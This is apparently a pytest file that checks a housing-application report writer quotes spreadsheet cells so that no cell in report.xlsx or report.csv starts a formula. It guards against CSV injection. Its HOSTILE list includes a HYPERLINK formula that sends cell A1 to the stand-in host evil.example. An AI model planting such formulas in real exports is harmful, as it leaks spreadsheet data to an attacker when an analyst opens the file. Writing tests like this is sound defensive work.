"""No cell of report.xlsx or report.csv starts a formula (issue 20 item 5, OWASP CSV injection).

On b0e8589 an application id taken from a folder name and an uploaded file's name in
`errors` were written to report.xlsx as live formulas and raw to report.csv. Both are
read back here as an analyst's spreadsheet would: the workbook with openpyxl, the csv
with the csv module.
"""

from __future__ import annotations

import csv

import pytest
from openpyxl import load_workbook

from woondossier.cells import FORMULA_STARTS
from woondossier.model import ApplicationResult, CheckResult, FileError
from woondossier.output import write_report
from woondossier.report import write_workbook

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "@SUM(1+1)", "+31 6 1234", "-2+3", "\tTAB", "\rCR"]


def _results() -> list[ApplicationResult]:
    return [
        ApplicationResult(
            application_id=text, type="unknown", corporation="unknown", decision="review",
            checks={"documents_complete": CheckResult(status="unknown", reason=text)},
            documents=(), errors=(FileError(file=text, error=text),),
        )  # fmt: skip
        for text in HOSTILE
    ]


def _starts_a_formula(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def test_no_workbook_cell_is_a_formula(tmp_path):
    path = write_workbook(tmp_path / "report.xlsx", _results())
    cells = [cell for sheet in load_workbook(path) for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f" or _starts_a_formula(c.value)] == []
    ids = [row[0] for row in load_workbook(path)["needs action"].iter_rows(min_row=2, values_only=True)]
    # shown, as text, with the quote OWASP advises (a CR is kept as the line break it is)
    assert sorted(ids) == sorted("'" + text.replace("\r", "\n") for text in HOSTILE)


def test_no_csv_cell_starts_a_formula(tmp_path):
    path = write_report(tmp_path, _results())
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    assert [cell for row in rows for cell in row if _starts_a_formula(cell)] == []
    assert len(rows) == 1 + len(HOSTILE)  # a CR inside a cell does not split its row
    assert sorted(row[0] for row in rows[1:]) == sorted("'" + text.replace("\r", "\n") for text in HOSTILE)


@pytest.mark.parametrize("text", ["OH-2026-001", "A 1", "'al gequote"])
def test_ordinary_text_is_written_as_it_is(tmp_path, text):
    result = _results()[0].model_copy(update={"application_id": text})
    path = write_report(tmp_path, [result])
    assert path.read_text(encoding="utf-8").splitlines()[1].startswith(text)
